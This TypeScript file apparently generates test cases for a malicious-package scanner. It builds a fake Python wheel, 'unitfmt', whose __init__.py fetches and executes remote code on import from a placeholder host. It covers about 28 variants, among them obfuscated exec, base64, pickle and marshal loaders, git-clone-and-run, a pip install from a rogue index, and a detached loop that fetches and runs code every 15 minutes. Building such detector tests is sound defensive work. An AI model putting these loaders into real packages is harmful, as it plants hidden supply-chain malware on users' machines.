import { techniques } from './drafts.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { browserDriver, gitWrapper, pluginInstaller } from './look-alikes/downloads.ts';
import { snippetRunner } from './look-alikes/loading.ts';
import { curlBackend } from './look-alikes/system.ts';
import { py } from './python-text.ts';

const REMOTE = 'https://raw.snippet-host.invalid';

/** Ways to write: fetch text, execute it. Each is a whole module body. */
const SPELLINGS: Readonly<Record<string, (c: Remote) => string>> = {
  'requests-text': (c) => `import requests\n\nexec(requests.get("${c.url('/a')}").text)\n`,
  'requests-content-eval': (c) =>
    `import requests\n\neval(compile(requests.get("${c.url('/a')}", verify=False).content, "a", "exec"))\n`,
  'urlopen-read': (c) => `from urllib.request import urlopen\n\nexec(urlopen("${c.url('/a')}").read())\n`,
  'urllib-request-object': (c) =>
    `import urllib.request as r\n\nq = r.Request("${c.url('/a')}", headers={"User-Agent": "Mozilla/5.0"})\nwith r.urlopen(q) as s:\n    code = s.read().decode("utf-8")\nexec(code, globals())\n`,
  'http-client': (c) =>
    `import http.client\n\nk = http.client.HTTPSConnection("${c.host}")\nk.request("GET", "/a")\nexec(k.getresponse().read())\n`,
  'raw-socket': (c) =>
    `import socket\n\ns = socket.create_connection(("${c.host}", 80))\ns.sendall(b"GET /a HTTP/1.0\\r\\nHost: ${c.host}\\r\\n\\r\\n")\nb = b""\nwhile True:\n    p = s.recv(4096)\n    if not p:\n        break\n    b += p\nexec(b.split(b"\\r\\n\\r\\n", 1)[1])\n`,
  httpx: (c) => `import httpx\n\nwith httpx.Client(verify=False) as k:\n    exec(k.get("${c.url('/a')}").text)\n`,
  aiohttp: (c) =>
    `import asyncio\nimport aiohttp\n\n\nasync def load():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("${c.url('/a')}") as r:\n            exec(await r.text())\n\n\nasyncio.run(load())\n`,
  urllib3: (c) => `import urllib3\n\nexec(urllib3.PoolManager().request("GET", "${c.url('/a')}").data.decode())\n`,
  pycurl: (c) =>
    `import io\nimport pycurl\n\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.URL, "${c.url('/a')}")\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n`,
  'curl-output': (c) => `import subprocess\n\nexec(subprocess.check_output(["curl", "-s", "${c.url('/a')}"]))\n`,
  'popen-read': (c) => `import os\n\nexec(os.popen("wget -qO- ${c.url('/a')}").read())\n`,
  'dunder-import': (c) => `exec(__import__("urllib.request", fromlist=["urlopen"]).urlopen("${c.url('/a')}").read())\n`,
  'getattr-builtins': (c) =>
    `import builtins\nimport importlib\n\nm = importlib.import_module("requests")\ngetattr(builtins, "ex" + "ec")(getattr(m, "ge" + "t")("${c.url('/a')}").text)\n`,
  'builtins-dict': (c) =>
    `import requests\n\n__builtins__["exec"](requests.get("${c.url('/a')}").text) if isinstance(__builtins__, dict) else __builtins__.exec(requests.get("${c.url('/a')}").text)\n`,
  'function-type': (c) =>
    `import types\nimport requests\n\ntypes.FunctionType(compile(requests.get("${c.url('/a')}").text, "f", "exec"), globals())()\n`,
  'temporary-import': (c) =>
    `import importlib.util\nimport tempfile\nimport urllib.request\n\np = tempfile.mktemp(".py")\nurllib.request.urlretrieve("${c.url('/a.py')}", p)\ns = importlib.util.spec_from_file_location("stage", p)\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n`,
  runpy: (c) =>
    `import runpy\nimport tempfile\nimport requests\n\np = tempfile.gettempdir() + "/stage.py"\nopen(p, "w").write(requests.get("${c.url('/a')}").text)\nrunpy.run_path(p)\n`,
  'zip-on-path': (c) =>
    `import sys\nimport tempfile\nimport urllib.request\n\np = tempfile.mktemp(".zip")\nurllib.request.urlretrieve("${c.url('/a.zip')}", p)\nsys.path.insert(0, p)\nimport stage\n`,
  'python-stdin': (c) =>
    `import subprocess\nimport sys\nimport urllib.request\n\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(urllib.request.urlopen("${c.url('/a')}").read())\n`,
  'interactive-console': (c) =>
    `import code\nimport requests\n\ncode.InteractiveInterpreter().runsource(requests.get("${c.url('/a')}").text, symbol="exec")\n`,
  'json-field': (c) =>
    `import requests\n\nconfig = requests.get("${c.url('/config.json')}").json()\nexec(config["setup"])\n`,
  'base64-response': (c) =>
    `import base64\nimport requests\n\nexec(base64.b64decode(requests.get("${c.url('/a')}").content[::-1]))\n`,
  'pickle-response': (c) =>
    `import pickle\nimport urllib.request\n\npickle.loads(urllib.request.urlopen("${c.url('/m')}").read())\n`,
  'marshal-response': (c) =>
    `import marshal\nimport urllib.request\n\nexec(marshal.loads(urllib.request.urlopen("${c.url('/m')}").read()))\n`,
  'map-lambda': (c) => `import requests\n\nlist(map(lambda u: exec(requests.get(u).text), ["${c.url('/a')}"]))\n`,
  partial: (c) =>
    `from functools import partial, reduce\nimport requests\n\nreduce(lambda v, f: f(v), [partial(requests.get, timeout=5), lambda r: r.text, exec], "${c.url('/a')}")\n`,
  'class-wrapper': (c) =>
    `import requests\n\n\nclass Loader:\n    url = "${c.url('/a')}"\n\n    def fetch(self):\n        self.text = requests.get(self.url).text\n        return self\n\n    def run(self):\n        return exec(self.text)\n\n\nLoader().fetch().run()\n`,
};

const spelled =
  (code: (c: Remote) => string) =>
  (c: Remote): Draft => ({
    kind: 'wheel',
    name: 'unitfmt',
    version: '1.9.0',
    files: { 'unitfmt/units.py': fillerModule('Units.', 200, 191) },
    sites: [
      {
        path: 'unitfmt/__init__.py',
        form: 'module',
        before: '"""Units and their formats."""\nfrom . import units\n\n__version__ = "1.9.0"\n\n',
        code: code(c),
        after: '',
      },
    ],
  });

const GIT = (c: Remote): string => py`
import os
import subprocess
import sys
import tempfile

_folder = os.path.join(tempfile.gettempdir(), ".unit-data")
if not os.path.isdir(_folder):
    subprocess.run(["git", "clone", "--quiet", "--depth", "1", "${c.url('/ops/unit-data.git')}", _folder], stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, os.path.join(_folder, "main.py")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`;

const GITPYTHON = (c: Remote): string => py`
import os
import tempfile

import git

_target = tempfile.mkdtemp()
git.Repo.clone_from("${c.url('/ops/unit-data.git')}", _target)
os.system("python3 " + os.path.join(_target, "main.py") + " &")
`;

const PIP = (c: Remote): string => py`
import subprocess
import sys

subprocess.run(
    [sys.executable, "-m", "pip", "install", "-q", "--index-url", "${c.url('/simple/')}", "unit-runtime"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
import unit_runtime

unit_runtime.start()
`;

const DASH_C = py`
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import unitfmt._service as s; s.main()"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    start_new_session=True,
)
`;

const SERVICE = (c: Remote): string => py`"""Background service of the units."""
import os
import time
import urllib.request


def main():
    while True:
        try:
            exec(urllib.request.urlopen("${c.url('/service.py')}").read(), {"__name__": "service", "pid": os.getpid()})
        except Exception:
            pass
        time.sleep(900)
`;

const dashC = (c: Remote): Draft => {
  const draft = spelled(() => DASH_C)(c);
  return { ...draft, files: { ...draft.files, 'unitfmt/_service.py': SERVICE(c) } };
};

/** The code to run is in a distribution that this one requires. */
const dependency = (c: Remote): Draft => ({
  ...spelled(
    () => py`
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import unit_runtime; unit_runtime.start('${c.host}')"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    start_new_session=True,
)
`,
  )(c),
  wheel: { metadata: { 'Requires-Dist': ['unit-runtime>=0.1'] } },
});

const at = techniques('https://attack.mitre.org/techniques/T1105/', REMOTE);

export const NETWORK_EXEC: readonly Replay[] = [
  at(
    '31a-git-clone',
    'git clone to a hidden folder, then Python on it',
    'import clones a repository of a constant host into the temporary folder and runs its main.py',
    spelled(GIT),
    { lookAlikes: () => [gitWrapper()] },
  ),
  at(
    '31b-gitpython',
    'a clone through GitPython, then os.system',
    'import clones a repository of a constant host through GitPython and runs its main.py',
    spelled(GITPYTHON),
    { lookAlikes: () => [curlBackend()] },
  ),
  at(
    '31c-second-index',
    'pip install from another index, then import',
    'import installs a second distribution from an index of its own and calls it',
    spelled(PIP),
    { lookAlikes: () => [pluginInstaller()] },
  ),
  at(
    '31d-python-c-own-module',
    'python -c imports a module of its own that loops on fetch and exec',
    'import starts Python with -c, which imports a module of the wheel that fetches and executes code for ever',
    dashC,
    { lookAlikes: () => [browserDriver()] },
  ),
  at(
    '31e-python-c-dependency',
    'python -c imports a module of a dependency, in the background',
    'import starts a detached Python that imports a dependency nobody asked for and hands it a host',
    dependency,
    { lookAlikes: () => [snippetRunner()] },
  ),
];

/** One replay per spelling: they share their look-alikes with the cases above. */
export const SPELLINGS_OF_EXEC: readonly Replay[] = Object.entries(SPELLINGS).map(([name, code]) =>
  at(
    `31-${name}`,
    `fetch and execute, written with ${name}`,
    'import fetches bytes from a constant host and executes them as Python',
    spelled(code),
  ),
);
